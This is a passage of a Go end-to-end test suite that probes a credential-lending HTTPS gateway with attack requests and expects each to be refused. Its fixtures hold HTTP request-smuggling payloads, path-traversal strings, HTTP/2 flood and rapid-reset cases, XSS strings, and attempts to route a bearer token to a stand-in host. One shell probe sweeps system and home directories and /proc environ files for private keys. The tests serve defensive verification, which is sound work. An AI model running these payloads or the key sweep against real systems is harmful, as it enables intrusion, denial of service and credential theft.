package e2e

import (
	"fmt"
	"strings"
)

// probes returns the attacks. {H} is an attack's own name with the port at which HTTP/2 is spoken, {O} with that of HTTP/1 alone, {C} in clear; {h} is the name alone.
func (l *lender) probes() []probe {
	var all []probe
	add := func(id, what, run, refused, rule, control string) {
		p := probe{id: id, what: what, refused: refused}
		host := lentName(id)
		place := func(text, host string) string {
			return strings.NewReplacer("{H}", host+":"+l.both, "{O}", host+":"+l.old, "{C}", host+":"+l.clear, "{h}", host, "{both}", l.both, "{old}", l.old, "{clear}", l.clear).Replace(text)
		}
		p.run = place(run, host)
		if p.control = place(control, "ok"+lentDomain); control == "" {
			p.control = place(lentOK, "ok"+lentDomain)
		}
		if rule != "" {
			p.record = &event{Host: host, Rule: rule}
		}
		all = append(all, p)
	}
	l.nameAttacks(add)
	l.framingAttacks(add)
	l.pathAttacks(add)
	l.http2Attacks(add)
	l.boundAttacks(add)
	l.placeholderAttacks(add)
	l.foreignAttacks(add)
	for i, p := range all {
		if p.id == "D10a" {
			all[i].record = &event{Host: "down" + lentDomain, Rule: "credential-unavailable"}
		}
	}
	return all
}

type adder func(id, what, run, refused, rule, control string)

// What the attacks' controls are: the same credential, used rightly.
const (
	lentHead = `Host: {O}\r\n`
	lentAuth = `Authorization: Bearer {P}\r\n`
	lentOK   = `curl -sSf -o o.$$ --max-time $SOON -D h.$$ -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/x && grep -qi 'x-lent: yes' h.$$`
	lentOK1  = `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n` + lentHead + lentAuth + `\r\n' lent`
	lentOK2  = `$A lent2 {H} lent 'authorization=Bearer {P}'`
)

// nameAttacks: server name, Host and :authority are the dialled name.
func (l *lender) nameAttacks(add adder) {
	auth := "'authorization=Bearer {P}'"
	for i, host := range []string{"elsewhere.example.com:{old}", "ok.lent.example.com:{old}", "{h}", "{h}:443", "{h}:{both}", "127.0.0.1:{old}", "[::1]:{old}", "{h}.:{old}.", "x@{O}", "{O}@elsewhere.example.com", "{O}, elsewhere.example.com", "{P}.example.com"} {
		add(fmt.Sprintf("C2h%d", i), "inspected: Host "+quotedPlace(host), `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\nHost: `+host+`\r\n`+lentAuth+`\r\n'`, "421 name-mismatch|400 malformed", "", lentOK1)
	}
	for i, fields := range []string{
		"':authority=elsewhere.example.com:{both}'", "':authority=ok.lent.example.com:{both}'", "'host=elsewhere.example.com:{both}'", "'host={H}' 'host=elsewhere.example.com:{both}'", "':-:authority' 'host=elsewhere.example.com:{both}'",
		"':authority={H}' ':authority=elsewhere.example.com:{both}'", "':authority=x@{H}'", "':authority={H},elsewhere.example.com'", "':authority='", "':authority={h}'", "':authority={P}.example.com'", "':authority=[::1]:{both}'", "':authority=[[::1]]:{both}'",
	} {
		fields = strings.ReplaceAll(fields, "':-:authority'", "'-:authority'")
		add(fmt.Sprintf("C2v%d", i), "inspected, HTTP/2: "+strings.ReplaceAll(quotedPlace(fields), "'", ""), "$A lent2 {H} '' "+fields+" "+auth, "421 name-mismatch|400 |PROTOCOL_ERROR", "", lentOK2)
	}
	for i, sni := range []string{"elsewhere.example.com", "ok.lent.example.com", "x.{h}", "lent.example.com"} {
		add(fmt.Sprintf("C3s%d", i), "inspected: server name "+quotedPlace(sni)+", Host the dialled one", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n' sni=`+sni, refusal, "name-mismatch", lentOK1)
		add(fmt.Sprintf("C3w%d", i), "inspected: server name and :authority "+quotedPlace(sni), `$A lent2 {H} sni=`+sni+` ':authority=`+sni+`:{both}' `+auth, refusal, "name-mismatch", lentOK2)
	}
	add("C3c", "inspected: CONNECT", `$A lent1 {O} 'CONNECT elsewhere.example.com:{old} HTTP/1.1\r\nHost: elsewhere.example.com:{old}\r\n`+lentAuth+`\r\n'`, "method-closed|421", "", lentOK1)
	add("C3d", "inspected: CONNECT to the dialled name itself", `$A lent1 {O} 'CONNECT {O} HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "405 method-closed", "method-closed", lentOK1)
	add("C3e", "inspected, HTTP/2: CONNECT", "$A lent2 {H} '' ':method=CONNECT' '-:scheme' '-:path' ':authority={H}' "+auth, "405|PROTOCOL_ERROR|421", "", lentOK2)
	add("C3f", "inspected, HTTP/2: extended CONNECT", "$A lent2 {H} '' ':method=CONNECT' ':protocol=websocket' "+auth, "405|PROTOCOL_ERROR|400", "", lentOK2)
	add("C19a", "inspected: TRACE", `$A lent1 {O} 'TRACE /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "405 method-closed", "method-closed", lentOK1)
	add("C19b", "inspected, HTTP/2: TRACE", "$A lent2 {H} '' ':method=TRACE' "+auth, "405 method-closed", "method-closed", lentOK2)
	add("C19c", "inspected: Trace, by another case", `$A lent1 {O} 'Trace /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "403 placeholder-misused", "placeholder-misused", lentOK1)
	add("C5a", "HTTP in clear to a lent host", `curl -sS -D - --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i 'x-server' && exit 0; curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | grep -i cofferdam-denied; exit 1`, "placeholder-misused", "placeholder-misused", "")
	add("C5b", "HTTP in clear with the lent host's name in Host", `curl -sSi --max-time $SOON -H 'Host: ok.lent.example.com:{both}' -H "Authorization: Bearer $API_TOKEN" http://{C}/v1/x | tee o.$$; grep -qi x-server o.$$`, "name-mismatch", "name-mismatch", "")
	add("C5c", "HTTP in clear to the port of TLS", `curl -sSi --max-time $SOON -H "Authorization: Bearer $API_TOKEN" http://{O}/v1/x | tee o.$$; grep -qi 'x-server' o.$$`, "placeholder-misused", "placeholder-misused", "")
	add("C27", "a program that does not know the authority (controls: openssl, python, node, git and go do)", `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout k.$$ -out c.$$ -subj /CN=pinned -days 1 2>/dev/null; curl -sS --cacert c.$$ --max-time $SOON https://{H}/v1/x`,
		"certificate", "inspection-refused", lentTrust)
}

// lentTrust asks with the clients that people use, each by its own list of authorities.
const lentTrust = `set -e
openssl s_client -connect {H} -servername {h} -verify_return_error </dev/null >o.$$ 2>&1
python3 -c 'import urllib.request as u, os; r = u.urlopen(u.Request("https://{H}/v1/x", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}), timeout=8); assert r.headers["X-Lent"] == "yes"'
if command -v node; then node -e 'require("https").get("https://{H}/v1/x", {headers: {Authorization: "Bearer " + process.env.API_TOKEN}}, r => process.exit(r.headers["x-lent"] == "yes" ? 0 : 1))'; fi
if command -v git; then git ls-remote https://{H}/pub/x.git 2>&1 | grep -qi 'not valid\|not found\|repository'; fi
` + lentOK2

// quotedPlace is a place for people.
func quotedPlace(text string) string {
	return strings.NewReplacer("{h}", "(dialled)", "{H}", "(dialled):port", "{O}", "(dialled):port", "{both}", "port", "{old}", "port", "{P}", "(placeholder)").Replace(text)
}

// framingAttacks are requests that two servers would read differently, inside TLS, with the credential in reach.
func (l *lender) framingAttacks(add adder) {
	const smuggled = `GET /v1/smuggled HTTP/1.1\r\nHost: {O}\r\n` + lentAuth + `\r\n`
	post := `POST /v1/x HTTP/1.1\r\n` + lentHead + lentAuth
	for i, x := range [][2]string{
		{"both lengths (CL.TE)", post + `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + smuggled}, {"both lengths (TE.CL)", post + `Transfer-Encoding: chunked\r\nContent-Length: 400\r\n\r\n0\r\n\r\n` + smuggled},
		{"two lengths", post + `Content-Length: 4\r\nContent-Length: 0\r\n\r\nabcd` + smuggled}, {"two equal lengths", post + `Content-Length: 4, 4\r\n\r\nabcd` + smuggled}, {"a length with a sign", post + `Content-Length: +5\r\n\r\nabcde` + smuggled},
		{"a length in hexadecimal", post + `Content-Length: 0x5\r\n\r\nabcde` + smuggled}, {"a negative length", post + `Content-Length: -5\r\n\r\n` + smuggled}, {"a length of twenty digits", post + `Content-Length: 18446744073709551617\r\n\r\n` + smuggled},
		{"nearly chunked", post + `Transfer-Encoding: chunkedx\r\n\r\n0\r\n\r\n` + smuggled}, {"chunked, by a tab", post + "Transfer-Encoding:\\tchunked, identity\\r\\n\\r\\n0\\r\\n\\r\\n" + smuggled}, {"chunked twice", post + `Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + smuggled},
		{"a folded field", post + `X: a\r\n ` + lentAuth + `\r\n` + smuggled}, {"a bare line feed", `GET /v1/x HTTP/1.1\r\n` + lentHead + `X: a\n` + lentAuth + `\r\n` + smuggled}, {"a bare carriage return", `GET /v1/x HTTP/1.1\r\n` + lentHead + `X: a\r` + lentAuth + `\r\n` + smuggled},
		{"a NUL in a field", post + `X: a\x00b\r\n\r\n` + smuggled}, {"a NUL in a name", post + `X\x00: a\r\n\r\n` + smuggled}, {"a space before the colon", post + `Content-Length : 0\r\n\r\n` + smuggled}, {"two Hosts", post + `Host: elsewhere.example.com\r\n\r\n` + smuggled},
		{"no Host", `GET /v1/x HTTP/1.1\r\n` + lentAuth + `\r\n` + smuggled}, {"an odd version", `GET /v1/x HTTP/1.2\r\n` + lentHead + lentAuth + `\r\n` + smuggled}, {"HTTP/0.9", `GET /v1/x\r\n` + smuggled},
		{"chunked in HTTP/1.0", `POST /v1/x HTTP/1.0\r\n` + lentHead + lentAuth + `Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + smuggled}, {"Host named by Connection", post + `Connection: host\r\n\r\n` + smuggled},
		{"a length named by Connection", post + `Connection: content-length\r\nContent-Length: 5\r\n\r\nabcde` + smuggled}, {"a fragment", `GET /v1/x#` + `{P} HTTP/1.1\r\n` + lentHead + `\r\n` + smuggled},
	} {
		add(fmt.Sprintf("C9L%02d", i), "inspected: "+x[0], `$A lent1 {O} '`+x[1]+`'`, "0 answers|400 malformed-request", "malformed-request", lentOK1)
	}
	for i, x := range [][2]string{ // their heads are in order
		{"a chunk size that overflows", post + `Transfer-Encoding: chunked\r\n\r\n10000000000000005\r\nabcde\r\n0\r\n\r\n` + smuggled}, {"a chunk size with a sign", post + `Transfer-Encoding: chunked\r\n\r\n+5\r\nabcde\r\n0\r\n\r\n` + smuggled},
		{"a chunk size 0x5", post + `Transfer-Encoding: chunked\r\n\r\n0x5\r\nabcde\r\n0\r\n\r\n` + smuggled}, {"a chunk that is longer than said", post + `Transfer-Encoding: chunked\r\n\r\n3\r\nabcde\r\n0\r\n\r\n` + smuggled},
		{"a chunk that ends in a line feed", post + `Transfer-Encoding: chunked\r\n\r\n5\nabcde\n0\n\n` + smuggled}, {"a trailer that is a framing field", post + `Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 50\r\nTransfer-Encoding\r\n\r\n` + smuggled},
	} {
		add(fmt.Sprintf("C9M%02d", i), "inspected: "+x[0], `$A lent1 {O} '`+x[1]+`'`, "1 answers: 400|0 answers", "", lentOK1)
	}
	add("C8h", "inspected: a second request for another name behind a good one", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\nGET /v1/smuggled HTTP/1.1\r\nHost: elsewhere.example.com:{old}\r\n`+lentAuth+`\r\n' 'max=1 least=1'`, "421 name-mismatch", "name-mismatch", lentOK1)
	add("C8i", "inspected: a WebSocket that the server did not open, and a request behind it", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Connection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: elsewhere.example.com\r\n\r\n' 'max=1 least=1'`, "1 answers|421", "", lentOK1)
	add("C15u", "inspected: an upgrade to HTTP/2 in clear", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' 'max=1 least=1'`, "200 of the server", "", lentOK1)
	add("C28a", "a refusal that shows what was asked", `$A lent1 {O} 'GET /v1/<script>alert(1)</script>?{P} HTTP/1.1\r\nHost: <script>alert(1)</script>\r\nX-<b>: 1\r\n\r\n' >o.$$; cat o.$$; grep -q '200' o.$$ && exit 0; sed 's/.*\] "//' o.$$ | grep -qi '<script\|text/html' && exit 0; exit 1`, "400|421|403", "", lentOK1)
	add("C28b", "a refusal as a page", `curl -sSi --max-time $SOON "https://{H}/v1/%3Cscript%3E?t=$API_TOKEN" | tee o.$$; grep -qi 'x-server\|text/html\|<script\|'"$API_TOKEN" o.$$`, "(?i)text/plain", "placeholder-misused", "")
	add("C18", "inspected: an IPv6 address in two pairs of brackets", `$A lent1 {O} 'GET https://[[::1]]:{old}/v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "421 name-mismatch", "name-mismatch", lentOK1)
	for i, target := range []string{"https://elsewhere.example.com:{old}/v1/x", "http://{O}/v1/x", "//elsewhere.example.com/v1/x", "elsewhere.example.com:443", "https://{O}@elsewhere.example.com/v1/x", "*", "v1/x"} {
		add(fmt.Sprintf("C3t%d", i), "inspected: the target "+quotedPlace(target), `$A lent1 {O} 'GET `+target+` HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n'`, "421 |400 |403 ", "", lentOK1)
	}
}

// pathAttacks lead out of the paths to which the credential is lent.
func (l *lender) pathAttacks(add adder) {
	for i, path := range []string{
		"/v1/../admin", "/v1/%2e%2e/admin", "/v1/.%2e/admin", "/v1/%2E./admin", "/v1/..%2fadmin", "/v1%2f..%2fadmin", "/v1/..;/admin", "/v1/..;x=y/admin", "/v1/;/../admin", "/v1/%3b/../admin", "//v1/x", "/v1//../admin", "/./v1/x", "/v1/./x", `/v1/..\\admin`, "/v1/..%5cadmin", "/v1/..%5Cadmin",
		"/v1/%252e%252e/admin", "/v1/%c0%ae%c0%ae/admin", "/v1/%u002e%u002e/admin", "/v1/..%00/admin", "/v1/x%0d%0a", "/v1/%2", "/v1/%zz", "/v1/..%ef%bc%8fadmin/../x", "/v1/x;jsessionid=1", "/V1/x", "/v1", "/v1x/x", "/v2/x", "/admin?/v1/x", "/admin%3f/v1/", "/%2fv1/x", "/v1%2fx/../../admin",
	} {
		query := ""
		add(fmt.Sprintf("C12a%02d", i), "inspected: "+path, `$A lent1 {O} 'GET `+path+query+` HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n' lent`, "403 (ambiguous-path|placeholder-misused)|400 malformed-request", "", lentOK1)
		add(fmt.Sprintf("C12b%02d", i), "inspected, HTTP/2: "+path, `$A lent2 {H} lent ':path=`+path+`' 'authorization=Bearer {P}'`, "403 (ambiguous-path|placeholder-misused)|400 |PROTOCOL_ERROR", "", lentOK2)
	}
	for i, header := range []string{"X-HTTP-Method-Override: DELETE", "X-Original-URL: /admin", "X-Rewrite-URL: /admin", "X-Method-Override: PUT"} {
		add(fmt.Sprintf("C12o%d", i), "inspected: "+header, `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+header+`\r\n\r\n'`, "403 method-override", "method-override", lentOK1)
	}
	for i, method := range []string{"DELETE", "PUT", "get", "PROPFIND", "HEAD"} {
		add(fmt.Sprintf("D1m%d", i), "a placeholder with another method: "+method, `$A lent2 {H} '' ':method=`+method+`' 'authorization=Bearer {P}'`, "403 placeholder-misused", "placeholder-misused", lentOK2)
	}
}

// http2Attacks break HTTP/2, or make of it a request that HTTP/1 behind it would read otherwise.
func (l *lender) http2Attacks(add adder) {
	floods := [][3]string{
		{"continuation", "a head that never ends (CONTINUATION)", "PROTOCOL_ERROR|ENHANCE_YOUR_CALM|COMPRESSION_ERROR|NO_ERROR|reset|broken pipe"}, {"bomb", "a compressed head that grows (HPACK bomb)", "refused, 0 reached the server"},
		{"table", "a compression table of 256 MiB", "COMPRESSION_ERROR"}, {"reset", "requests that are reset at once (rapid reset)", "ENHANCE_YOUR_CALM"}, {"data", "DATA before HEADERS", "PROTOCOL_ERROR|STREAM_CLOSED"}, {"even", "a stream of the server's", "PROTOCOL_ERROR"},
		{"window", "a window that overflows", "FLOW_CONTROL_ERROR"}, {"huge", "a frame longer than was agreed", "FRAME_SIZE_ERROR|PROTOCOL_ERROR"}, {"between", "another frame amid a head", "PROTOCOL_ERROR"}, {"open", "more streams than were agreed, none of which ends", "of 300 requests are refused"},
	}
	for i, f := range floods {
		add(fmt.Sprintf("C15f%d", i), "HTTP/2: "+f[1], "$A flood2 {H} "+f[0], f[2], "", lentOK2)
	}
	const split = `x\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: {O}\r\n\r\n`
	for i, x := range [][2]string{
		{"a line break in a value", `'x-a=` + split + `'`}, {"a line break in a name", `'x-a: 1\r\nx-b=1'`}, {"a line break in the path", `':path=/v1/` + split + `'`}, {"a space in the path", `':path=/v1/x HTTP/1.1'`}, {"a line break in the method", `':method=GET /v1/smuggled HTTP/1.1\r\nX: '`},
		{"a line break in :authority", `':authority={O}\r\nX: 1'`}, {"a NUL in a value", `'x-a=a\x00b'`}, {"an upper-case name", `'Authorization=Bearer {P}'`}, {"Connection", `'connection=close'`}, {"Transfer-Encoding", `'transfer-encoding=chunked'`},
		{"Upgrade", `'upgrade=websocket'`}, {"a pseudo-field that there is not", `':host={O}'`}, {"two methods", `':method=GET' ':method=POST'`}, {"two paths", `':path=/v1/x' ':path=/admin'`}, {"no path", `'-:path'`}, {"an empty path", `':path='`}, {"a whole URL as path", `':path=https://elsewhere.example.com/v1/x'`},
		{"a colon in a name", `'x:y=1'`}, {"a space in a name", `'x y=1'`}, {"a length with a sign", `'content-length=+3'`}, {"two lengths", `'content-length=3' 'content-length=4'`},
	} {
		add(fmt.Sprintf("C15h%02d", i), "HTTP/2 to a server of HTTP/1: "+x[0], `$A lent2 {O} '' `+x[1]+` 'authorization=Bearer {P}'`, "PROTOCOL_ERROR|400 |421 |0 answers|403 placeholder-misused", "", strings.ReplaceAll(lentOK2, "{H}", "{O}"))
	}
	add("C15l", "HTTP/2: pseudo-fields behind ordinary ones", `$A lent2 {H} late 'authorization=Bearer {P}'`, "PROTOCOL_ERROR|400", "", lentOK2)
	add("C15m", "HTTP/2: more body than the length says", `$A lent2 {O} 'lent body=abcdef' 'content-length=3' 'authorization=Bearer {P}'`, "PROTOCOL_ERROR|STREAM_CLOSED|0 answers|502|400", "", lentOK2)
	add("C15n", "HTTP/2: less body than the length says", `$A lent2 {O} 'lent body=abc' 'content-length=6' 'authorization=Bearer {P}'`, "PROTOCOL_ERROR|0 answers|502|400", "", lentOK2)
}

// boundAttacks: time, bytes, encodings, connections.
func (l *lender) boundAttacks(add adder) {
	add("C21d", "inspected: a head of 200 KB", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`X: {S*200000}\r\n\r\n'`, "431 |0 answers", "", lentOK1)
	add("C21e", "inspected: a thousand fields", `$A lent1 {O} "GET /v1/x HTTP/1.1\r\nHost: {O}\r\n$(for i in $(seq 1000); do printf 'X-%d: 1\\r\\n' $i; done)\r\n"`, "400 malformed-request", "malformed-request", lentOK1)
	add("C21f", "inspected: a head that comes a byte a second", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n' 'split=1 slow'`, "408 |0 answers", "malformed-request", lentOK1)
	add("C21g", "inspected, HTTP/2: a field of 300 KB", `$A lent2 {H} '' 'x-long={S*16000}' 'x-longer={S*16000}' 'x-a={S*16000}' 'x-b={S*16000}' 'x-c={S*16000}' 'x-d={S*16000}' 'authorization=Bearer {P}'`, "431|ENHANCE|PROTOCOL|COMPRESSION|FRAME_SIZE|0 answers", "", lentOK2)
	add("C21h", "inspected: a chunk of one byte each, with the placeholder in them", `$A lent1 {O} "$(printf 'POST /v1/x HTTP/1.1\\r\\nHost: {O}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'; printf %s "$API_TOKEN" | fold -w1 | while read -r c || [ "$c" ]; do printf '1\\r\\n%s\\r\\n' "$c"; done; printf '0\\r\\n\\r\\n')"`, "403 placeholder-misused|0 answers", "placeholder-misused", lentOK1)
	add("C22a", "the placeholder behind three megabytes of body", `python3 -c 'import os; open("b.%d" % os.getppid(), "w").write("s" * 3000000 + os.environ["API_TOKEN"])'; curl -sSi --max-time 15 -H 'Expect:' --data-binary @b.$$ -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/x | tee o.$$; grep -qi 'x-server' o.$$`, "placeholder-misused", "placeholder-misused", `python3 -c 'import os; open("b.%d" % os.getppid(), "w").write("s" * 3000000)'; curl -sSfi --max-time 15 -H 'Expect:' --data-binary @b.$$ -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/x | grep -qi 'x-lent: yes'`)
	echo := func(id, what, path, flags string) {
		add(id, what, `curl -sS --max-time 15 `+flags+` -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/`+path+` >o.$$; grep -q 'CANARY\|dG9rLUNBTk' o.$$ && exit 0; tail -c 150 o.$$; exit 1`, `you sent`, "", "")
	}
	echo("C22b", "an echo behind eight megabytes", "long", "")
	echo("C23a", "a compressed echo, undone inside", "gzip", "--compressed")
	for i, encoding := range []string{"br", "zstd", "deflate"} {
		add(fmt.Sprintf("C23%c", 'b'+i), "an answer in an encoding that was not asked for: "+encoding, `curl -sSi --max-time $SOON -H 'Accept-Encoding: `+encoding+`' -H "Authorization: Bearer $API_TOKEN" https://{H}/v1/`+encoding+` | tee o.$$; grep -qi 'x-server' o.$$`, "502", "", "")
	}
	add("C23e", "the placeholder in a compressed body: it is swapped for nothing", `printf 'a=%s' "$API_TOKEN" | gzip >b.$$; curl -sSi --max-time $SOON --data-binary @b.$$ -H 'Content-Encoding: gzip' https://{H}/v1/x | tee o.$$; grep -qi 'x-lent: yes' o.$$`, "(?i)x-lent: no", "", "")
	for i, protocol := range []string{"http/1.1", "h2"} {
		add(fmt.Sprintf("C20%c", 'a'+i), "one connection with the credential and without ("+protocol+"): the gateway's own are apart", "$A routes {H} "+protocol, "connections, none with both", "", "")
		add(fmt.Sprintf("D7%c", 'a'+i), "bytes of every kind beside the placeholder ("+protocol+")", "$A body {H} "+protocol, "intact", "", "")
	}
	add("C26a", "the authority's key", `pub=$(python3 - <<'E'
import base64, re, subprocess, ssl, os
for f in [os.environ.get("SSL_CERT_FILE") or ssl.get_default_verify_paths().openssl_cafile]:
    for pem in re.findall("-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----", open(f).read(), re.S):
        if b"Cofferdam" not in base64.b64decode("".join(pem.splitlines()[1:-1])): continue
        name = subprocess.run(["openssl", "x509", "-noout", "-subject", "-pubkey"], input=pem, capture_output=True, text=True).stdout
        if "Cofferdam" in name: print(name); break
E
); echo "$pub" | grep -q 'Cofferdam' || { echo "no authority found"; exit 3; }
for f in $( (find /etc /run /tmp /root /home /usr/local /var/lib -type f -size -64k -cmin -60 -print0 2>/dev/null; printf '/proc/1/environ\0/proc/self/environ\0') | xargs -0 grep -lsI -e 'PRIVATE KEY' 2>/dev/null | grep -v "/cases/"); do
  k=$(openssl pkey -in "$f" -pubout -passin pass: 2>/dev/null | sed -n 2p); [ -n "$k" ] && echo "$pub" | grep -qF "$k" && { echo "found in $f"; exit 0; }; done
echo "the key is nowhere"; exit 1`, "nowhere", "", "")
}

// placeholderAttacks put placeholders where they are not lent.
func (l *lender) placeholderAttacks(add adder) {
	const misused = "403 placeholder-misused"
	get := func(target, fields string) string {
		return `'GET ` + target + ` HTTP/1.1\r\n` + lentHead + fields + `\r\n'`
	}
	for i, x := range [][3]string{
		{"another header", "/v1/x", `X-Token: {P}\r\n`}, {"a cookie", "/v1/x", `Cookie: a={P}\r\n`}, {"User-Agent", "/v1/x", `User-Agent: {P}\r\n`}, {"Referer", "/v1/x", `Referer: https://x/{P}\r\n`}, {"the query", "/v1/x?t={P}", ""}, {"the path", "/v1/{P}", ""}, {"the query, percent-encoded", "/v1/x?t={U}", ""},
		{"the path, percent-encoded", "/v1/{U}", ""}, {"hexadecimal", "/v1/x?t={X}", ""}, {"base64", "/v1/x", `X: {B}\r\n`}, {"beside itself", "/v1/x", lentAuth + `X: {P}\r\n`}, {"another credential's header", "/v1/x", `X-Api-Key: {P}\r\n`}, {"another credential's placeholder", "/v1/x", `Authorization: Bearer {K}\r\n`},
		{"the name of a header", "/v1/x", `{P}: 1\r\n`}, {"the name of a cookie", "/v1/x", `Cookie: {P}=1\r\n`}, {"user information of an absolute target", "https://{P}@{O}/v1/x", ""}, {"another path", "/v2/x", lentAuth},
	} {
		refused, rule := misused, "placeholder-misused"
		if strings.HasPrefix(x[1], "https:") {
			refused, rule = "421 name-mismatch", "name-mismatch"
		}
		add(fmt.Sprintf("D4h%02d", i), "a placeholder in "+x[0], `$A lent1 {O} `+get(x[1], x[2]), refused, rule, lentOK1)
		if i < 15 && x[0] != "the name of a header" {
			name, value, _ := strings.Cut(strings.TrimSuffix(x[2], `\r\n`), ": ")
			fields := ""
			if x[2] != "" && !strings.Contains(value, `\r\n`) {
				fields = "'" + strings.ToLower(name) + "=" + value + "'"
			} else if x[2] != "" {
				fields = "'authorization=Bearer {P}' 'x={P}'"
			}
			add(fmt.Sprintf("D4v%02d", i), "HTTP/2: a placeholder in "+x[0], `$A lent2 {H} '' ':path=`+x[1]+`' `+fields, misused, "placeholder-misused", lentOK2)
		}
	}
	add("D4n", "HTTP/2: a placeholder as the name of a header", `$A lent2 {H} '' '{L}=1'`, misused, "placeholder-misused", lentOK2)
	add("D4m", "HTTP/2: a placeholder as the method", `$A lent2 {H} '' ':method={P}'`, "403 |400 ", "", lentOK2)
	add("D4t", "a placeholder in a trailer", `$A lent1 {O} 'POST /v1/x HTTP/1.1\r\n`+lentHead+`Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX: {P}\r\n\r\n'`, misused, "placeholder-misused", lentOK1)
	add("D4s", "a placeholder in the name of a trailer", `$A lent1 {O} 'POST /v1/x HTTP/1.1\r\n`+lentHead+`Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n{P}: 1\r\n\r\n'`, misused+"|0 answers", "placeholder-misused", lentOK1)
	add("D4e", "the real header in a trailer", `$A lent1 {O} 'POST /v1/x HTTP/1.1\r\n`+lentHead+`Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n1\r\na\r\n0\r\n`+lentAuth+`\r\n'`, misused, "placeholder-misused", lentOK1)
	add("D4u", "HTTP/2: a placeholder in a trailer", `$A lent2 {H} 'body=abc trailer=x:{P}' 'trailer=x'`, misused+"|0 answers", "placeholder-misused", lentOK2)
	add("D4w", "HTTP/2: a placeholder in a trailer that was not announced", `$A lent2 {H} 'lent body=abc trailer=x:{P}'`, misused+"|0 answers|lent: no", "", lentOK2)
	add("D4x", "a placeholder in a chunk's extension: it is left out", `$A lent1 {O} 'POST /v1/x HTTP/1.1\r\n`+lentHead+`Transfer-Encoding: chunked\r\n\r\n1;x={P}\r\na\r\n0\r\n\r\n' lent`, "lent: no|400|0 answers|403", "", lentOK1)
	add("D4c", "a placeholder in CONNECT", `$A lent1 {O} 'CONNECT {P}.example.com:443 HTTP/1.1\r\nHost: {P}.example.com\r\nProxy-Authorization: Bearer {P}\r\n\r\n'`, "405|421", "", lentOK1)
	body := `POST /v1/x HTTP/1.1\r\n` + lentHead
	add("D3a", "a placeholder over records of one byte", `$A lent1 {O} `+get("/v1/x", `X: {P}\r\n`)+` split=1`, misused, "placeholder-misused", `$A lent1 {O} `+get("/v1/x", lentAuth)+` 'lent split=1'`)
	add("D3b", "a placeholder over two chunks", `$A lent1 {O} '`+body+`Transfer-Encoding: chunked\r\n\r\n{n/2}\r\n{1}\r\n{n-n/2}\r\n{2}\r\n0\r\n\r\n'`, misused+"|0 answers", "placeholder-misused", lentOK1)
	add("D3c", "a placeholder in DATA frames of one byte", `$A lent2 {H} 'pieces body=aa{P}bb'`, misused+"|0 answers", "placeholder-misused", `$A lent2 {H} 'lent pieces body=aabb' 'authorization=Bearer {P}'`)
	add("D3d", "a head in frames of one byte", `$A lent2 {H} drip 'x={P}'`, misused, "placeholder-misused", `$A lent2 {H} 'lent drip' 'authorization=Bearer {P}'`)
	add("D3e", "half a placeholder at the end of the head, half in the body", `$A lent1 {O} '`+body+`X: {1}\r\nContent-Length: 30\r\n\r\n{2}{S*30}' lent`, "lent: no", "", lentOK1)
	add("D3f", "half in one header, half in the next of the same name", `$A lent1 {O} '`+body+`Authorization: Bearer {1}\r\nAuthorization: {2}\r\n\r\n'`, "403 foreign-credential", "foreign-credential", lentOK1)
	add("D3g", "HTTP/2: half in one cookie, half in the next", `$A lent2 {H} '' 'cookie=a={1}' 'cookie={2}'`, "403 foreign-credential", "foreign-credential", lentOK2)
	add("D5a", "a placeholder in the second request of a connection", `$A lent1 {O} 'GET /pub/x HTTP/1.1\r\n`+lentHead+`\r\nGET /pub/x?t={P} HTTP/1.1\r\n`+lentHead+`\r\n' 'max=1 least=1'`, misused, "placeholder-misused", lentOK1)
	add("D5b", "the second request goes elsewhere with what the first was lent", `$A lent1 {O} 'GET /v1/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\nGET /v2/x HTTP/1.1\r\n`+lentHead+lentAuth+`\r\n' 'max=1 least=1'`, misused, "placeholder-misused", lentOK1)
	add("D5c", "HTTP/2: two requests at once without the placeholder, after one with it", `$A lent2 {H} lent; $A lent2 {H} 'lent twice'`, "lent: no; 200 of the server, lent: no|lent: no", "", lentOK2)
